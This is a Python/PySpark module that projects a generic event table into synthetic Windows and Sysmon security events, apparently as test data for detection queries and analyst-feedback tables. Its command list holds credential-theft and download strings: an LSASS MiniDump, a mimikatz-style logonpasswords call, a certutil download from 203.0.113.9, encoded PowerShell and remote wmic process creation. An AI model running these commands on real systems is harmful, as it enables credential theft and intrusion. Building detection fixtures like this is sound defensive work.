"""Canonical security events from the driver's event table.

Every column is a deterministic projection of (event_id, ts, user_id, event_type, props),
so filters and column pruning reach the scan.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

#: One of eight fixed commands, five of them suspicious.
COMMANDS = (
    "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0AKQA=", "rundll32.exe comsvcs.dll, MiniDump 624 lsass.dmp full",
    "certutil.exe -urlcache -f http://203.0.113.9/a.exe a.exe", "tool.exe sekurlsa::logonpasswords exit",
    "curl https://203.0.113.7:8443/health", "wmic /node:10.0.0.8 process call create cmd.exe", "ipconfig /all", "dir C:/Users",
)

#: Canonical column -> expression over event_id, ts, user_id, event_type and k (from props).
#: Written in the SQL that Spark and DuckDB share.
COLUMNS = {
    "seq": "event_id",
    "ts": "ts",
    "hostname": "'host-' || cast(user_id % 10 as varchar(9))",
    "user_name": "case when user_id % 7 = 0 and k % 20 not in (4, 9, 14, 19) then case k % 8 when 1 then '(Unknown User)' when 2 then ' unknown ' when 5 then '' else 'invalid user' end else 'user-' || cast(user_id as varchar(20)) end",
    "source_ip": "'10.0.0.' || cast(k % 20 as varchar(9))",
    "process_name": "case event_type when 'click' then 'powershell.exe' when 'view' then 'cmd.exe' when 'purchase' then 'certutil.exe' else 'sshd' end",
    "event_outcome": "case when event_type = 'error' and (user_id % 7 = 0 or k % 20 < 15) then 'failed' when event_type = 'signup' and k % 20 < 10 then 'success' end",
    "process_guid": "'p-' || cast(user_id as varchar(20)) || '-' || cast(event_id % 50 as varchar(9))",
    "parent_process_guid": "'p-' || cast(user_id as varchar(20)) || '-' || cast(cast(floor((event_id % 50) / 2) as int) as varchar(9))",
    "parent_process_name": "case when k % 5 = 0 then 'wmiprvse.exe' when k % 11 = 0 then 'lsass.exe' else 'explorer.exe' end",
    "commandline": "case (event_id + k) % 8 " + " ".join(f"when {i} then '{c}'" for i, c in enumerate(COMMANDS)) + " end",
    "event_id": "case k % 10 when 0 then '4662' when 1 then '10' when 2 then '3' when 3 then '7045' when 4 then '4624' when 5 then '4625' else '1' end",
    "target_image": "case when k % 20 = 1 then 'C:/Windows/System32/lsass.exe' when k % 10 = 1 then 'C:/Windows/explorer.exe' end",
    "granted_access": "case k % 4 when 0 then '0x1410' when 1 then '0x1000' when 2 then 'zz' else '0x40' end",
    "properties": "case when k % 30 = 0 then '{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}' end",
    "object_guid": "case when k % 30 = 10 then '{89E95B76-444d-4c62-991a-0facbeda640c}' end",
    "access_mask": "case when k % 10 = 0 then '0x100' end",
    "provider": "case when event_type in ('error', 'signup') then 'Security' else 'Sysmon' end",
    "protocol": "case when k % 10 = 2 then case when k % 3 = 0 then 'tcp' else 'udp' end end",
    "logon_type": "case when k % 10 in (4, 5) then case when k % 3 = 0 then '10' else '3' end end",
    "action_type": "case when event_type = 'signup' then 'logged-in' when k % 10 = 2 then 'connection' end",
    "message": "case when k % 13 = 0 then 'report ' || cast(k as varchar(9)) end",
    "target_object": "case when k % 17 = 0 then 'HKLM/Run/' || cast(k as varchar(9)) end",
    "destination_ip": "case when k % 10 = 2 then '203.0.113.' || cast(k % 50 as varchar(9)) end",
    "destination_port": "case when k % 10 = 2 then case when k % 3 = 0 then '443' else '4444' end end",
    "event_category": "case when event_type in ('error', 'signup') then 'authentication' when k % 10 = 2 then 'network_connection' else 'process' end",
    "process_path": "'C:' || chr(92) || case when k % 25 = 0 then 'Temp' else 'Windows' end || chr(92) || case event_type when 'click' then 'powershell.exe' when 'view' then 'cmd.exe' when 'purchase' then 'certutil.exe' else 'sshd' end",
}


def events(spark: SparkSession, sf_dir: str) -> DataFrame:
    raw = spark.read.parquet(f"{sf_dir}/events.parquet")
    raw = raw.selectExpr("event_id", "ts", "user_id", "event_type", "cast(get_json_object(props, '$.k') as int) as k")
    return raw.selectExpr(*(f"{e} as {c}" for c, e in COLUMNS.items()))


#: The same table for the SQL oracles.
EVENTS_SQL = (
    "ev as (select " + ", ".join(f"{e} as {c}" for c, e in COLUMNS.items())
    + " from (select event_id, ts, user_id, event_type, cast(json_extract_string(props, '$.k') as int) as k from events) x)"
)

#: Feedback of analysts, made from the events: what they said about a command. Shared SQL over ev.
FEEDBACK = {
    "seq": "seq",
    "commandline": "commandline",
    "process_name": "process_name",
    "event_id": "event_id",
    "hostname": "case when hostname = 'host-3' then hostname else 'host-0' end",
    "agree": "seq % 3 <> 0",
    "verdict": "seq % 2 = 0",
    "corrected": "case cast(floor(seq / 50) as bigint) % 5 when 0 then true when 1 then false end",
    "corrected_severity": "cast(case when seq % 4 = 0 then seq % 14 - 1 end as int)",
    "analyst": "'analyst-' || cast(seq % 4 as varchar(9))",
}
TRUSTED = ["analyst-1", "analyst-3"]


def feedback(spark: SparkSession, sf_dir: str) -> DataFrame:
    return events(spark, sf_dir).where("seq % 50 < 3").selectExpr(*(f"{e} as {c}" for c, e in FEEDBACK.items()))


FEEDBACK_SQL = ", fb0 as (select " + ", ".join(f"{e} as {c}" for c, e in FEEDBACK.items()) + " from ev where seq % 50 < 3)"
